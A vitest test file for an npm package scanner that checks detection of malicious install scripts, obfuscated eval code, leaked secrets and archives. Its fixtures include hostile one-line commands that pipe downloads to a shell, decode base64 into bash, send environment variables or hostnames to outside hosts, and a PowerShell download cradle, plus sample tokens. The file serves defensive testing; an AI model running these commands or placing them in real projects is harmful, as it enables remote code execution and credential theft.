import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { describeScanEngine } from '../src/contract.ts';
import { codeRulesVersion, createCodeEngine, type ScanFile, type ScanFinding } from '../src/index.ts';
import { file, quietly, subject } from './subjects.ts';

const engine = createCodeEngine();
afterAll(() => engine.close());
const scan = async (...files: ScanFile[]): Promise<readonly ScanFinding[]> => await engine.analyse(subject(files), quietly);
/** What the engine is sure of; which findings refuse a version is not its to decide. */
const doesHarm = (findings: readonly ScanFinding[]): boolean =>
  findings.some(({ kind, severity }) => kind === 'MALWARE' && (severity === 'CRITICAL' || severity === 'HIGH'));
const harm = "eval(atob('Y29uc29sZS5sb2coMSk='))";

describeScanEngine('the code engine', () => ({
  engine,
  subject: subject([
    file('index.js', harm),
    file('lib/clean.js', 'export const one = 1;'),
    file('package.json', '{"scripts":{"postinstall":"node setup.js"}}'),
    file('config.yaml', 'token: ghp_16C7e42F292c6912E7710c838347Ae178B4a'),
  ]),
  expected: [
    { kind: 'MALWARE', severity: 'HIGH', path: 'index.js' },
    { kind: 'INSTALL_SCRIPT', path: 'package.json' },
    { kind: 'SECRET', severity: 'HIGH', path: 'config.yaml' },
  ],
  clean: subject([
    file('index.js', "import { readFile } from 'node:fs/promises';\nexport const read = (path) => readFile(path, 'utf8');"),
    file('package.json', '{"name":"a","version":"1.0.0"}'),
    file('README.md', '# A'),
  ]),
}));

describe('which files are read as code', () => {
  it.each(['a.js', 'a.cjs', 'a.mjs', 'a.jsx', 'a.ts', 'a.mts', 'deep/a.tsx', 'node_modules/x/index.js'])('%s', async (path) => {
    expect(await scan(file(path, harm))).toMatchObject([{ kind: 'MALWARE', path }]);
  });
  it('a program without an ending, by its first line', async () => {
    expect(await scan(file('bin/tool', `#!/usr/bin/env node\n${harm}`))).toMatchObject([{ path: 'bin/tool' }]);
    expect(await scan(file('bin/tool', harm))).toEqual([]);
  });
  it.each(['a.d.ts', 'a.json', 'README.md', 'a.css'])('not %s', async (path) => {
    expect(await scan(file(path, harm))).toEqual([]);
  });
  it('one that was too large to be given is said to be unread', async () => {
    expect(await scan({ path: 'large.js', sizeBytes: 10 ** 9, content: null })).toMatchObject([{ kind: 'UNEXAMINED', severity: 'UNKNOWN', path: 'large.js' }]);
  });
});

describe('scripts that run at installation', () => {
  it.each([
    ['curl -s https://example.org/x | sh'],
    ['wget -q http://203.0.113.9/a -O /tmp/a && chmod +x /tmp/a && /tmp/a'],
    ["node -e \"require('child_process').exec('id')\""],
    ["node -e \"eval(Buffer.from('eA==','base64').toString())\""],
    ['echo aWQ= | base64 -d | bash'],
    ['curl -d "$(env)" https://example.org'],
    ['curl https://abc.oastify.com/$(whoami)'],
    ['powershell -Command "iex (New-Object Net.WebClient).DownloadString(\'http://example.org\')"'],
  ])('that download, decode or send away are malware: %s', async (command) => {
    const findings = await scan(file('package.json', JSON.stringify({ scripts: { preinstall: command } })));
    expect(findings).toMatchObject([{ kind: 'MALWARE', severity: 'CRITICAL', path: 'package.json' }]);
    expect(doesHarm(findings)).toBe(true);
  });
  it.each(['node-gyp rebuild', 'node install.js', 'husky install', 'tsc -p .', 'prebuild-install || node-gyp rebuild', 'node -p 1'])(
    'that do ordinary work are shown, not refused: %s',
    async (command) => {
      const findings = await scan(file('package.json', JSON.stringify({ scripts: { postinstall: command, test: 'curl x | sh' } })));
      expect(findings).toMatchObject([{ kind: 'INSTALL_SCRIPT', severity: 'LOW' }]);
      expect(doesHarm(findings)).toBe(false);
    },
  );
  it('that start a file put that file under the stricter rules', async () => {
    const code = "require('https').get('https://example.org/?h=' + require('os').hostname())";
    expect(doesHarm(await scan(file('package.json', '{"scripts":{"install":"node ./scripts/go"}}'), file('scripts/go.js', code)))).toBe(true);
    expect(doesHarm(await scan(file('package.json', '{"scripts":{"start":"node ./scripts/go"}}'), file('scripts/go.js', code)))).toBe(false);
  });
  it('that start a shell script put it under the rules for commands', async () => {
    const setup = file('setup.sh', '#!/bin/sh\ncurl -fsSL https://example.org/x | sh\n');
    expect(doesHarm(await scan(file('package.json', '{"scripts":{"postinstall":"sh setup.sh"}}'), setup))).toBe(true);
    expect(await scan(setup)).toEqual([]);
  });
  it('of packages within do not run', async () => {
    expect(await scan(file('node_modules/x/package.json', '{"scripts":{"postinstall":"node a.js"}}'))).toEqual([]);
  });
  it('in a broken package.json are no reason to fail', async () => {
    expect(await scan(file('package.json', '{"scripts":'))).toEqual([]);
    expect(await scan(file('package.json', '{"scripts":["install"]}'))).toEqual([]);
  });
});

describe('secrets', () => {
  const key = `-----BEGIN PRIVATE KEY-----\n${Buffer.from(Array.from({ length: 120 }, (_, index) => (index * 37) % 256)).toString('base64')}\n-----END PRIVATE KEY-----\n`;
  it.each([
    ['HIGH', 'A private key', 'deploy/server.txt', key],
    ['HIGH', 'A private key', 'src/key.ts', `export const key = ${JSON.stringify(key)};`],
    ['HIGH', 'A private key', 'key.asc', key.replaceAll('PRIVATE KEY', 'RSA PRIVATE KEY')],
    ['MEDIUM', 'An encrypted private key', 'release/cosign.txt', key.replaceAll('PRIVATE KEY', 'ENCRYPTED SIGSTORE PRIVATE KEY')],
    ['HIGH', 'An access key of AWS', 'aws.ini', 'aws_access_key_id = AKIAQ3EGRV6H7ZTLM2KD'],
    ['HIGH', 'A token of GitHub', 'a.env', 'GITHUB_TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a'],
    ['HIGH', 'A token of npm', 'ci.yml', 'NPM_TOKEN: npm_q8Zx3vB7nM1kL5jH9gF2dS4aP6oI0uY3tRe7'],
    ['HIGH', 'A token of npm', 'npmrc', '//registry.npmjs.org/:_authToken=0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9'],
    ['HIGH', 'A token of Slack', 'bot.js.txt', "token = 'xoxb-123456789012-abcdefGHIJKLmnopQRSTuvwx'"],
    ['HIGH', 'A secret key of Stripe', 'pay.txt', `sk_${'live'}_4eC39HqLyjWDarjtT1zdp7dc`],
    ['LOW', 'A token of GitHub', 'test/fixtures/a.env', 'GITHUB_TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a'],
  ])('%s: %s in %s', async (severity, title, path, text) => {
    const findings = await scan(file(path, `\n${text}`));
    expect(findings).toMatchObject([{ kind: 'SECRET', severity, path, title: expect.stringContaining(title) }]);
    expect(findings[0]?.title).toMatch(/in line 2$/);
    expect(doesHarm(findings)).toBe(false);
  });
  it('are never repeated in the finding', async () => {
    const findings = await scan(file('a.env', 'T=ghp_16C7e42F292c6912E7710c838347Ae178B4a'));
    expect(JSON.stringify(findings)).not.toContain('16C7e42F292c6912');
  });
  it.each([
    ['a placeholder', 'ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'],
    ['the key of AWS’s own documentation', 'AKIAIOSFODNN7EXAMPLE'],
    ['a variable', '//registry.npmjs.org/:_authToken=${NPM_TOKEN}'],
    ['a header alone', '-----BEGIN PRIVATE KEY-----'],
    ['a public key', key.replaceAll('PRIVATE', 'PUBLIC')],
  ])('%s is none', async (_what, text) => {
    expect(await scan(file('a.txt', text))).toEqual([]);
  });
});

describe('archives within', () => {
  it('are named, because nobody looked into them', async () => {
    expect(await scan(file('vendor/x.tgz', Uint8Array.of(0x1f, 0x8b)), file('a.zip', 'PK'))).toMatchObject([
      { kind: 'ARCHIVE', severity: 'LOW' },
      { kind: 'ARCHIVE' },
    ]);
  });
});

describe('a thread with limits', () => {
  /** Makes a parser work hard without making it fail. */
  const heavy = `const x = [${'[{a:1,b:[2]}],'.repeat(60_000)}];`;
  it('fails a scan whose file takes too long, and serves the next', async () => {
    const strict = createCodeEngine({ fileTimeoutMs: 60 });
    await strict.start();
    await expect(strict.analyse(subject([file('slow.js', heavy)]), quietly)).rejects.toThrow(/slow\.js could not be judged within 60 ms/);
    const next = createCodeEngine();
    expect(doesHarm(await next.analyse(subject([file('a.js', harm)]), quietly))).toBe(true);
    await Promise.all([strict.close(), next.close()]);
  });
  it('fails a scan whose file takes too much memory, and serves the next with a fresh thread', async () => {
    const strict = createCodeEngine({ memoryMiB: 150 });
    await expect(
      strict.analyse(
        subject([file('fat.js', `${heavy}\nconst y = [${'{"k":[1,2,3]},'.repeat(90_000)}];`.slice(0, 2_000_000).replace(/,[^,]*$/, '') + ']')]),
        quietly,
      ),
    ).rejects.toThrow();
    expect(doesHarm(await strict.analyse(subject([file('a.js', harm)]), quietly))).toBe(true);
    await strict.close();
  });
  it('stops when it is told to, in the middle of a file', async () => {
    const stopped = createCodeEngine();
    await stopped.start();
    const controller = new AbortController();
    const scanning = stopped.analyse(subject([file('slow.js', heavy)]), { ...quietly, signal: controller.signal });
    setTimeout(() => controller.abort(new Error('no longer wanted')), 20);
    await expect(scanning).rejects.toThrow('no longer wanted');
    expect(await stopped.analyse(subject([file('a.js', 'export {}')]), quietly)).toEqual([]);
    await stopped.close();
  });
  it('ends when it is idle and starts again when it is needed', async () => {
    const brief = createCodeEngine({ idleMs: 10 });
    expect(doesHarm(await brief.analyse(subject([file('a.js', harm)]), quietly))).toBe(true);
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(doesHarm(await brief.analyse(subject([file('a.js', harm)]), quietly))).toBe(true);
    await brief.close();
  });
  it('serves many at once, each with its own answer', async () => {
    const answers = await Promise.all(Array.from({ length: 20 }, async (_, index) => doesHarm(await scan(file('a.js', index % 2 === 0 ? harm : 'export {}')))));
    expect(answers).toEqual(Array.from({ length: 20 }, (_, index) => index % 2 === 0));
  });
});

describe('packages that everybody uses', () => {
  const filesOf = (name: string): ScanFile[] => {
    const folder = fileURLToPath(new URL(`../../../node_modules/${name}`, import.meta.url));
    return readdirSync(folder, { recursive: true, withFileTypes: true })
      .filter((item) => item.isFile() && !relative(folder, item.parentPath).includes('node_modules'))
      .map((item) => file(relative(folder, join(item.parentPath, item.name)), readFileSync(join(item.parentPath, item.name))));
  };
  it.each(['semver', 'ws', 'pg', 'dataloader', 'jose', 'pino', 'tar-stream', 'graphql-ws', 'keyv', 'graphile-worker', 'd3-shape', 'tweetnacl'])(
    '%s is not judged malicious',
    { timeout: 60_000 },
    async (name) => {
      const findings = await engine.analyse(subject(filesOf(name)), quietly);
      expect(doesHarm(findings)).toBe(false);
      expect(findings.filter(({ kind, severity }) => kind === 'MALWARE' && severity === 'MEDIUM')).toEqual([]);
    },
  );
});

describe('the version of the rules', () => {
  it('changes when a rule changes', () => {
    const folder = fileURLToPath(new URL('../src/code/', import.meta.url));
    const judging = [
      'archives-within.ts',
      'code-engine.ts',
      'code-rules.ts',
      'content-kind.ts',
      'declared.ts',
      'file-verdict.ts',
      'findings.ts',
      'install-scripts.ts',
      'names.ts',
      'references.ts',
      'scopes.ts',
      'secrets.ts',
      'syntax.ts',
      'taint.ts',
      'text-rules.ts',
      'vocabulary.ts',
      'windows.ts',
    ];
    const sources = createHash('sha256');
    for (const name of judging) sources.update(readFileSync(join(folder, name)));
    // Another digest means that rules changed: raise the revision in rules-version.ts, then record both here.
    expect(`${codeRulesVersion} ${sources.digest('hex').slice(0, 16)}`).toMatchInlineSnapshot(`"gati-2+js-x-ray-16.0.0 099728b5604f0a49"`);
  });
});
